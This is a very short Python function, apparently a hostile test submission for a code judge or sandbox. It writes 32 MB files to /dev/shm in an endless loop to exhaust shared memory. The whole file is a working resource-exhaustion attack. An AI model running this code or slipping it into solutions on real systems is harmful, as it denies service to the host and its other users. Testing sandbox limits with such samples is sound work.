"""Fills /dev/shm, which is memory."""
def solve(lines):
    number = 0
    while True:
        with open(f"/dev/shm/fill{number}", "wb") as file:
            file.write(b"\1" * (32 << 20))
        number += 1
